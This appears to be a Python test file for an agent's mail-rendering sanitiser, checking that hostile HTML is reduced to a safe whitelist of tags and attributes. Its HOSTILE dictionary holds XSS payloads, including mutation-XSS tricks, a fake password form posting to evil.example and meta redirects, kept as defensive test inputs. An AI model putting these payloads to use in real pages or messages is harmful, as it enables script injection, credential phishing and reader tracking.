"""What a page shows of a stranger's mail does nothing."""

import re
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.inbound.confined import Reader, Unreadable
from agent.inbound.reading import read_message
from agent.inbound.showing import ATTRIBUTES, TAGS, harmless
from tests.builders import mail

HOSTILE = {
    "script": "<p>a</p><script>alert(1)</script>",
    "handler": '<p onmouseover="alert(1)">a</p>',
    "image": '<img src="https://evil.example/pixel.gif" onerror="alert(1)">',
    "style": "<style>body{background:url(https://evil.example/)}</style><p style='position:fixed'>a</p>",
    "svg": '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">a</a><iframe src="data:text/html,x"></iframe>',
    "form": '<form action="https://evil.example/"><input name=password><button>go</button></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "object": '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    "unclosed": '<p><img src="https://evil.example/?',
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><script>alert(1)</script></template>",
}


def tags(html: str) -> set[str]:
    return {name.lower() for name in re.findall(r"<\s*/?\s*([a-zA-Z][\w:-]*)", html)}


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_of_it_is_left(name: str) -> None:
    shown = harmless(HOSTILE[name])
    assert tags(shown) <= TAGS
    assert not re.search(r"<[^>]*\b(?:on\w+|src|href|style|action|background)\s*=", shown, re.I)


@given(st.text(alphabet=st.sampled_from("<>/='\" abimgscrptyle!-&;#:"), max_size=300))
@settings(max_examples=200, deadline=None)
def test_whatever_is_written_only_known_tags_come_out(html: str) -> None:
    shown = harmless(html)
    assert tags(shown) <= TAGS
    for attributes in re.findall(r"<\w+\s+([^>]*)>", shown):
        names = set(re.findall(r"([\w-]+)=", attributes))
        assert names <= set().union(*ATTRIBUTES.values())


def test_a_link_tells_where_it_led() -> None:
    assert harmless('<a href="https://evil.example/pay">our bank</a>') == "our bank [https://evil.example/pay]"


@pytest.mark.parametrize("piece", ["<div>", "<!--", "<a href=", "<table><td>", "&"])
def test_markup_that_is_built_to_take_minutes_takes_none(piece: str) -> None:
    with Reader(seconds=20) as reader:
        raw = mail.with_parts("x", html=piece * (300_000 // len(piece)))
        assert not isinstance(reader.show(raw, "html"), Unreadable)


def test_an_attachment_comes_out_as_it_went_in() -> None:
    raw = mail.with_parts(
        "Voir la pièce jointe.\n", attachments=(("avis.pdf", "application/pdf", b"%PDF-1.4 \x00\xff"),)
    )
    (attached,) = read_message(raw, None, datetime(2026, 3, 5, tzinfo=UTC)).attachments
    with Reader() as reader:
        assert reader.show(raw, f"attachment:{attached.sha256}") == b"%PDF-1.4 \x00\xff"
        assert isinstance(reader.show(raw, "attachment:" + "0" * 64), Unreadable)
        assert reader.show(raw, "html") == b""  # and the child goes on
